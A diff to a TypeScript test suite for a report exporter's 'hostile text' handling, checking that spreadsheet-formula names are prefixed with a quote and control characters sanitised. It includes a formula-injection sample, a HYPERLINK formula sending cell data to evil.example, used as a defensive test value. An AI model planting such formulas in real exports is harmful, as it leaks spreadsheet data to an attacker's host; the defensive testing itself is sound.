@@ -7,6 +7,7 @@ import { buildCohort } from '../../src/report/cohort.js';
 import { renderReport, type ReportFormat } from '../../src/report/index.js';
 import type { ReportInput } from '../../src/report/model.js';
 import type { Paint } from '../../src/report/text.js';
+import { safeLine } from '../../src/text.js';
 import { root } from '../helpers.js';
 import { aCandidate, anAssessment, aReportInput, aReportQuestion, type Mark } from '../report-builders.js';
 
@@ -440,7 +441,7 @@ describe('hostile text', () => {
     ]);
     expect(rows.slice(1).every((r) => r.length === 12)).toBe(true);
     const names = rows.slice(1).map((r) => r[1]);
-    const expected = HOSTILE_NAMES.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n));
+    const expected = HOSTILE_NAMES.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).map((n) => n.replace(/[\u001b\u0007]/g, safeLine));
     expect([...names].sort()).toEqual([...expected].sort());
     expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
     expect(names).toContain("'-2+3");
